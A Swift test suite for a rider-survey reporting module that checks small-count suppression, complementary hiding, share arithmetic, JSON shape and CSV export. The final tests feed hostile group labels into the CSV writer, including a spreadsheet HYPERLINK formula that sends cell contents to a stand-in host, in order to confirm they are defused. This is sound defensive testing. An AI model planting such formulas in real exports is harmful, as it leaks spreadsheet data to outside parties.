import CSVReader
import Engagement
import Foundation
import Testing

@Suite("Group portrait")
struct SurveyPortraitTests {
    typealias Response = PortraitScenarios.Response

    /// Checks one portrait against the true counts: every 1…4 hidden, every shown count true, nothing
    /// recoverable by arithmetic, shares consistent with the counts they come from.
    /// Returns how many counts were hidden as small and how many as complements.
    @discardableResult
    static func checkSafe(
        _ portrait: SurveyPortrait, _ survey: SurveyDefinition, truth: [RecoveryChecker.Key: Int]
    ) -> (small: Int, complements: Int) {
        let checker = RecoveryChecker(portrait: portrait, definition: survey)
        let shown = checker.shownValues()
        var hidden = (small: 0, complements: 0)
        for key in checker.allKeys() {
            let value = truth[key] ?? 0
            if (1...4).contains(value) { #expect(shown[key] == nil, "\(key) = \(value) is shown") }
            // A group of fewer than 5 respondents shows nothing, not even a 0
            let groupSize = truth[RecoveryChecker.Key(question: PortraitRow.respondents, option: PortraitRow.respondents, group: key.group)] ?? 0
            if (1...4).contains(groupSize) { #expect(shown[key] == nil, "\(key) = \(value) is shown in a group of \(groupSize)") }
            if let count = shown[key] {
                #expect(count == value, "\(key) shows \(count), truly \(value)")
            } else if value < portrait.threshold {
                hidden.small += 1
            } else {
                hidden.complements += 1
            }
        }
        let findings = checker.findings()
        #expect(findings.isEmpty, "\(findings)")
        checkShares(portrait, survey)
        return hidden
    }

    /// Shares lie in 0...1, match their counts, and a single choice's options share out the answering riders.
    static func checkShares(_ portrait: SurveyPortrait, _ survey: SurveyDefinition) {
        for question in portrait.questions {
            let kind = survey.question(question.questionID)!.kind
            for column in 0...portrait.groups.count {
                let cells = question.rows.map { column < portrait.groups.count ? $0.groups[column] : $0.all }
                for cell in cells {
                    if let share = cell.share {
                        #expect((0...1).contains(share))
                        #expect(cell.count != nil)
                    }
                    if cell.suppressed { #expect(cell.share == nil && cell.count == nil) }
                }
                guard case .single = kind else { continue }
                let options = question.rows.indices.filter { !question.rows[$0].option.hasPrefix("_") }
                let shares = options.compactMap { cells[$0].share }
                let answered = options.reduce(0) { $0 + (cells[$1].count ?? 0) }
                if shares.count == options.count, answered > 0 {
                    #expect(abs(shares.reduce(0, +) - 1) <= 0.0005 * Double(options.count))
                }
            }
        }
    }

    @Test("Counts of 1 to 4 are hidden, with complements, and nothing hidden can be worked out")
    func sampleSurveySuppression() throws {
        // Given the sample survey answered by 20 Meituan, 12 Ele.me and 3 other-platform riders,
        // grouped by the platform they ride for
        let survey = try SurveyFixtures.sample()
        var responses: [Response] = []
        for (platform, count) in [("meituan", 20), ("eleme", 12), ("other", 3)] {
            for index in 0..<count {
                var answers = SurveyFixtures.minimalAnswers
                answers["platform"] = .text(platform)
                answers["legal_help_needed"] = .text(index % 4 == 0 ? "yes" : "no")
                if index % 4 == 0 { answers["legal_help_topics"] = .choices(index % 8 == 0 ? ["wages"] : ["wages", "accident"]) }
                answers["work_hours"] = .number(Double(6 + index % 7))
                answers["satisfaction"] = .number(Double(1 + index % 5))
                answers["suggestion"] = .text("private note \(index)")
                responses.append((platform, try survey.validate(answers: answers, consent: true)))
            }
        }
        // When the portrait is computed
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "platform")
        // Then the profile mix hides the 3 other-platform riders and a complement (the next smallest, Ele.me)
        #expect(portrait.groups == ["eleme", "meituan", "other"])
        #expect(portrait.respondents.groups.map(\.count) == [nil, 20, nil])
        #expect(portrait.respondents.all.count == 35)
        #expect(portrait.respondents.groups.map(\.suppressed) == [true, false, true])
        // And every question's total row hides the same groups
        Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: "platform"))
        // And the required follow-up on legal help hides what the question it follows hides: its riders are
        // exactly those who answered yes
        let needed = try #require(portrait.questions.first { $0.questionID == "legal_help_needed" }?.rows.first { $0.option == "yes" })
        let topics = try #require(portrait.questions.first { $0.questionID == "legal_help_topics" }?.rows.first { $0.option == PortraitRow.answered })
        #expect(topics.groups.map(\.count) == needed.groups.map(\.count))
        #expect(topics.all.count == needed.all.count)
        // And the free text never appears, only how many answered
        let json = String(decoding: try JSONEncoder().encode(portrait), as: UTF8.self)
        #expect(!json.contains("private note"))
        let suggestion = try #require(portrait.questions.first { $0.questionID == "suggestion" })
        #expect(suggestion.rows.map(\.option) == [PortraitRow.answered, PortraitRow.notAnswered])
        // (the 3 other-platform riders show nothing, not even their 0 unanswered, so the total may be a complement)
        #expect(suggestion.rows[0].all.count == 35 || suggestion.rows[0].all.suppressed)
    }

    @Test("A group of 4 who all answer alike: no count of theirs is shown, zeros included, nor can one be worked out")
    func smallGroupRevealsNothing() throws {
        // Given 4 Ele.me riders who all chose a (and their required follow-up yes), and 12 Meituan riders
        // spread over a, b and c
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for _ in 0..<4 { responses.append(("eleme", try survey.validate(answers: PortraitScenarios.answers(p: "a"), consent: true))) }
        for index in 0..<12 {
            let option = ["a", "b", "c"][index % 3]
            responses.append(("meituan", try survey.validate(answers: PortraitScenarios.answers(p: option), consent: true)))
        }
        // When the portrait is computed by branch
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "branch")
        // Then the Ele.me column shows no count and no share, in every row of every question and the profile mix
        let eleme = try #require(portrait.groups.firstIndex(of: "eleme"))
        let rows = [portrait.respondents] + portrait.questions.flatMap(\.rows)
        for row in rows {
            #expect(row.groups[eleme].count == nil && row.groups[eleme].share == nil && row.groups[eleme].suppressed, "\(row.option)")
        }
        // And the CSV says <5 on every Ele.me line
        let lines = portrait.csv().split(separator: "\n").filter { $0.contains(",eleme,") }
        #expect(lines.count == rows.count)
        #expect(lines.allSatisfy { $0.split(separator: ",", omittingEmptySubsequences: false)[3] == "<5" })
        // And no arithmetic on what is shown recovers any of their counts
        Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: "branch"))
    }

    @Test("Fewer than 5 respondents in all: nothing is shown at all")
    func tinySurvey() throws {
        let survey = try PortraitScenarios.survey()
        let responses: [Response] = try (0..<4).map { _ in ("x", try survey.validate(answers: PortraitScenarios.answers(p: "b"), consent: true)) }
        for by in ["branch", nil] as [String?] {
            let portrait = SurveyPortrait.compute(survey, responses: responses, by: by)
            for row in [portrait.respondents] + portrait.questions.flatMap(\.rows) {
                #expect((row.groups + [row.all]).allSatisfy { $0.count == nil }, "\(row.option)")
            }
        }
    }

    @Test("A single hidden cell in a row gets a complement in that row", arguments: [1, 2, 3, 4])
    func complementInRow(small: Int) throws {
        // Given 30 riders in group x and 10 in y; `small` of y's riders chose b, the rest a
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for index in 0..<40 {
            let group = index < 30 ? "x" : "y"
            let option = index >= 40 - small ? "b" : "a"
            responses.append((group, try survey.validate(answers: PortraitScenarios.answers(p: option), consent: true)))
        }
        // When the portrait is computed
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "branch")
        let p = try #require(portrait.questions.first)
        let b = try #require(p.rows.first { $0.option == "b" })
        // Then b's count in y and b's total (both `small`) are hidden, and so are complements: the row of b
        // and the column of y each have at least two hidden counts
        #expect(b.groups[1].suppressed && b.all.suppressed)
        let hiddenInColumnY = p.rows.filter { $0.groups[1].suppressed }.count
        #expect(hiddenInColumnY >= 2)
        Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: "branch"))
    }

    @Test("Random portraits never show a small count nor let one be worked out", arguments: 0..<8)
    func randomPortraits(batch: Int) throws {
        let survey = try PortraitScenarios.survey()
        var random = SplitMix64(state: UInt64(batch) &* 7919 &+ 17)
        var hidden = (small: 0, complements: 0)
        for _ in 0..<40 {
            // Given up to 60 riders in 1 to 5 groups of uneven size, some unanswered questions
            let count = Int.random(in: 0...60, using: &random)
            let groups = Int.random(in: 1...5, using: &random)
            let responses = try PortraitScenarios.responses(survey, count: count, groups: groups, random: &random)
            let by: String? = Int.random(in: 0..<5, using: &random) == 0 ? nil : "branch"
            // When the portrait is computed, Then it passes every check
            let portrait = SurveyPortrait.compute(survey, responses: responses, by: by)
            let found = Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: by))
            hidden.small += found.small
            hidden.complements += found.complements
        }
        // And the scenarios did exercise both kinds of suppression
        #expect(hidden.small > 0 && hidden.complements > 0)
    }

    @Test("The checker does catch a leak: a lone hidden cell next to its shown total")
    func checkerCatchesLeaks() throws {
        // Given a hand-made portrait that hides only the small cell (no complement)
        let survey = try SurveyFixtures.definition(questions: SurveyFixtures.question("\"id\": \"p\", \"type\": \"single\", " + SurveyFixtures.options("a", "b")))
        func cell(_ group: String?, _ count: Int?) -> PortraitCount {
            PortraitCount(group: group, count: count, suppressed: count == nil, share: nil)
        }
        let portrait = SurveyPortrait(
            surveyID: "t", surveyVersion: 1, by: nil, threshold: 5, groups: [],
            respondents: PortraitRow(option: PortraitRow.respondents, all: cell(nil, 12), groups: []),
            questions: [QuestionPortrait(questionID: "p", type: "single", rows: [
                PortraitRow(option: "a", all: cell(nil, 10), groups: []),
                PortraitRow(option: "b", all: cell(nil, nil), groups: []),
                PortraitRow(option: PortraitRow.notAnswered, all: cell(nil, 0), groups: []),
            ], summary: nil)])
        // When checked, Then it recovers b = 2
        let findings = RecoveryChecker(portrait: portrait, definition: survey).findings()
        #expect(findings.contains("recovered p/b/_all = 2"))
    }

    @Test("Shares are over the riders who answered and add up to 1 for a single choice")
    func shares() throws {
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for (option, count) in [("a", 10), ("b", 6), ("c", 8)] {
            for _ in 0..<count { responses.append(("x", try survey.validate(answers: PortraitScenarios.answers(p: option), consent: true))) }
        }
        for _ in 0..<6 { responses.append(("x", try survey.validate(answers: [:], consent: true))) }
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: nil)
        let p = try #require(portrait.questions.first { $0.questionID == "p" })
        #expect(p.rows.map(\.all.count) == [10, 6, 8, 6])
        #expect(p.rows.map(\.all.share) == [0.4167, 0.25, 0.3333, 0.2])
        #expect(portrait.respondents.all.count == 30)
        #expect(portrait.groups.isEmpty && p.rows.allSatisfy { $0.groups.isEmpty })
        Self.checkShares(portrait, survey)
    }

    @Test("Number questions show min, median and max only where 5 or more answered")
    func numberSummary() throws {
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for hours in [1.0, 2, 3, 4, 5, 10] { responses.append(("x", try survey.validate(answers: ["n": .number(hours)], consent: true))) }
        for hours in [12.0, 13, 14] { responses.append(("y", try survey.validate(answers: ["n": .number(hours)], consent: true))) }
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "platform")
        let summary = try #require(portrait.questions.first { $0.questionID == "n" }?.summary)
        #expect(summary.all == NumberStats(group: nil, min: 1, median: 5, max: 14))
        #expect(summary.groups[0] == NumberStats(group: "x", min: 1, median: 3.5, max: 10))
        #expect(summary.groups[1] == NumberStats(group: "y", min: nil, median: nil, max: nil))
        #expect(portrait.questions.first { $0.questionID == "p" }?.summary == nil)
    }

    @Test("The JSON shape is snake_case with every key present, null where withheld")
    func jsonShape() throws {
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for index in 0..<8 { responses.append((index < 6 ? "x" : nil, try survey.validate(answers: [:], consent: true))) }
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "platform")
        let encoder = JSONEncoder()
        encoder.outputFormatting = [.sortedKeys]
        let json = String(decoding: try encoder.encode(portrait), as: UTF8.self)
        for fragment in ["\"survey_id\":\"t\"", "\"survey_version\":1", "\"by\":\"platform\"", "\"threshold\":5",
                         "\"groups\":[\"unknown\",\"x\"]", "\"question_id\":\"p\"", "\"type\":\"single\"",
                         "\"count\":null", "\"suppressed\":true", "\"share\":null", "\"summary\":null",
                         "\"option\":\"_not_answered\"", "\"median\":null"] {
            #expect(json.contains(fragment), "missing \(fragment)")
        }
        #expect(try JSONDecoder().decode(SurveyPortrait.self, from: Data(json.utf8)) == portrait)
    }

    @Test("CSV: one line per row and group, suppressed as <5, labels quoted")
    func csv() throws {
        // Given 7 riders of branch x (5 chose a, 2 chose b) and 6 of branch "y, north" (all chose a)
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for option in ["a", "a", "a", "a", "a", "b", "b"] {
            responses.append(("x", try survey.validate(answers: PortraitScenarios.answers(p: option), consent: true)))
        }
        for _ in 0..<6 { responses.append(("y, north", try survey.validate(answers: PortraitScenarios.answers(p: "a"), consent: true))) }
        let portrait = SurveyPortrait.compute(survey, responses: responses, by: "branch")
        let lines = portrait.csv().split(separator: "\n").map(String.init)
        // Then the header, the profile mix, and question p with b's 2 and a complement in column x hidden
        #expect(Array(lines.prefix(14)) == [
            "question,option,group,count,share",
            "_respondents,_respondents,x,7,0.5385",
            "_respondents,_respondents,\"y, north\",6,0.4615",
            "_respondents,_respondents,_all,13,1",
            "p,a,x,<5,",
            "p,a,\"y, north\",6,1",
            "p,a,_all,<5,",
            "p,b,x,<5,",
            "p,b,\"y, north\",0,0",
            "p,b,_all,<5,",
            "p,c,x,0,0",
            "p,c,\"y, north\",0,0",
            "p,c,_all,0,0",
            "p,_not_answered,x,0,0",
        ])
        #expect(lines.count == 1 + 3 + portrait.questions.reduce(0) { $0 + $1.rows.count * 3 })
        #expect(!portrait.csv().contains("secret"))
        Self.checkSafe(portrait, survey, truth: PortraitScenarios.trueCounts(survey, responses, by: "branch"))
    }

    @Test("A spreadsheet formula in a group label is defused")
    func csvFormula() throws {
        let survey = try PortraitScenarios.survey()
        let responses: [Response] = try (0..<5).map { _ in ("=HYPERLINK(\"x\")", try survey.validate(answers: [:], consent: true)) }
        let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
        #expect(csv.contains("_respondents,_respondents,\"'=HYPERLINK(\"\"x\"\")\",5,1"))
    }

    @Test("Every hostile group label is defused in the CSV and reads back as it was")
    func csvHostileLabels() throws {
        // Given 5 riders in each branch named like a formula (and like broken CSV)
        let labels = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
                      "say \"hi\"", "a,b", "two\nlines"]
        let survey = try PortraitScenarios.survey()
        var responses: [Response] = []
        for label in labels {
            for _ in 0..<5 { responses.append((label, try survey.validate(answers: PortraitScenarios.answers(p: "b"), consent: true))) }
        }
        // When the portrait is written as CSV and read back
        let csv = SurveyPortrait.compute(survey, responses: responses, by: "branch").csv()
        let reader = CSVReader(bytes: Array(csv.utf8))
        var groups: Set<String> = []
        while let item = try reader.next() {
            guard case .record(let record) = item else { Issue.record("unreadable: \(item)"); continue }
            // Then no field starts like a formula, and the group column gives the label back
            for field in record.fields {
                if let first = field.unicodeScalars.first { #expect(!"=+-@\t\r".unicodeScalars.contains(first), "\(field.debugDescription)") }
            }
            groups.insert(CSVWriter.unguarded(record.fields[2]))
        }
        #expect(groups == Set(labels + ["group", SurveyPortrait.allGroups]))
    }
}
